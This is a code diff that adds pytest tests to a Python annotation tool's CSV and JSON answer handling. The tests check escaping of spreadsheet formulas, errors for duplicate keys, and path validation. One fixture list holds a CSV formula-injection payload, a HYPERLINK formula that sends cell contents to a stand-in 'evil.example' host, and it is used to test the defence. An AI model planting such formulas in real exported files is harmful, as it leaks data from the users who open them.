@@ -168,3 +168,80 @@ def test_no_answers_yet_gives_a_header_only(tmp_path, cli):
     code, out, err = cli("-w", ws.root, "export-answers")
     assert code == 0, err
     assert out.strip() == "round,row,mask_id,image,answer,answer_index,unit,annotator,seconds,time,time_iso,current"
+
+
+EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3", "@SUM(A1)", "+1+2"]  # one per selected mask
+
+
+def test_formula_like_names_are_exported_as_text_and_read_back_exactly(ws, cli, tmp_path):
+    """CSV formula injection (issue 15): an annotator name starting with = + - @ is written with a
+    leading ' (a spreadsheet shows it as text, never runs it); a2lc reads its own export back unchanged."""
+    cli("-q", "-w", ws.root, "query", "--r", 1, "--annotator", "human", "--budget", 4)
+    sel = read_query(ws.artifact(1, "query.h5")).selected.tolist()
+    evil = _write_answers(tmp_path / "evil.csv", [[m, "void" if k else "c2", EVIL[k], 3]
+                                                         for k, m in enumerate(sel)])  # each differs from the fixture's
+    code, _, err = cli("-q", "-w", ws.root, "query", "--r", 1, "--answers", evil, "--replace")
+    assert code == 0, err
+    backup = tmp_path / "evil-backup.csv"
+    assert cli("-w", ws.root, "export-answers", "--r", 1, "--current", "--out", backup)[0] == 0
+    cells = [c for row in csv.reader(io.StringIO(backup.read_text())) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
+    exported = {r["annotator"] for r in _csv_rows(backup.read_text())}
+    assert exported >= {"'" + e for e in EVIL}
+    lost = read_query(ws.artifact(1, "query.h5"))
+    os.remove(ws.artifact(1, "query.h5"))
+    assert cli("-q", "-w", ws.root, "query", "--r", 1, "--annotator", "human", "--budget", 4)[0] == 0
+    code, _, err = cli("-q", "-w", ws.root, "query", "--r", 1, "--answers", backup)
+    assert code == 0, err
+    back = read_query(ws.artifact(1, "query.h5")).answers
+    want = {int(m): a for m, a in zip(lost.answers.mask, lost.answers.annotator)}
+    assert {int(m): a for m, a in zip(back.mask, back.annotator)} == {m: want[m] for m in map(int, back.mask)}
+    assert set(back.annotator) == set(EVIL)
+
+
+def test_csv_cells_escape_and_unescape():
+    from a2lc_cli.csvio import escape_cell, unescape_cell
+
+    for text in EVIL + ["'=quoted", "\tx", "\rx", "'", "''", "plain", "-1.5", "+3", "", "'x"]:
+        assert unescape_cell(escape_cell(text)) == text
+    assert escape_cell("-1.5") == "-1.5" and escape_cell(-3) == -3 and escape_cell("=1") == "'=1"
+    assert escape_cell("'x") == "''x" and unescape_cell("'x") == "'x"  # a hand-typed leading quote stays
+
+
+@pytest.mark.parametrize("name, text, needle", [
+    ("dup.csv", "mask_id,answer,answer\n1,c0,c1\n", r"dup.csv: line 1: column 'answer' appears twice in the header"),
+    ("open.csv", 'mask_id,answer\n1,c0\n2,"c1\n3,c2\n', r"open.csv: not a valid CSV file \(line 3: a quoted field is never closed\)"),
+    ("dup.json", '{"masks": [\n {"mask_id": 1, "answer": "c0"},\n {"mask_id": 2,\n  "answer": "c0",\n  "answer": "c1"}]}',
+     r"dup.json: key 'answer' appears twice in one object \(line 5\)"),
+    ("dup2.json", '[{"mask_id": 1, "mask_id": 2, "answer": "c0"}]', r"dup2.json: key 'mask_id' appears twice in one object \(line 1\)"),
+])
+def test_ambiguous_answers_files_are_one_line_errors(tmp_path, name, text, needle):
+    """Issue 15: a duplicated CSV column or JSON key, or a quote never closed, was read silently
+    (the last column/key won; the open quote swallowed the rest of the file)."""
+    from a2lc_cli.annotator import parse_answers_file
+    from a2lc_cli.data.base import ClassInfo, default_palette
+    from a2lc_cli.errors import A2LCError
+
+    path = tmp_path / name
+    path.write_text(text)
+    with pytest.raises(A2LCError, match=needle) as e:
+        parse_answers_file(path, ClassInfo(tuple(NAMES), default_palette(3)), np.array([1, 2, 3]))
+    assert "\n" not in str(e.value)
+
+
+@pytest.mark.parametrize("what, needle", [("fifo", "is a FIFO (named pipe), not a file"), ("folder", "is a folder, not a file"),
+                                          ("device", "is a device, not a file"), ("missing", "does not exist")])
+def test_an_answers_path_that_is_not_a_file_says_what_it_is(tmp_path, what, needle):
+    from a2lc_cli.annotator import parse_answers_file
+    from a2lc_cli.data.base import ClassInfo, default_palette
+    from a2lc_cli.errors import A2LCError
+
+    path = tmp_path / "answers.csv"
+    if what == "fifo":
+        os.mkfifo(path)
+    elif what == "folder":
+        path.mkdir()
+    elif what == "device":
+        os.symlink("/dev/zero", path)
+    with pytest.raises(A2LCError, match=f"answers file {path} {needle}".replace("(", r"\(").replace(")", r"\)")):
+        parse_answers_file(path, ClassInfo(tuple(NAMES), default_palette(3)), np.array([1]))
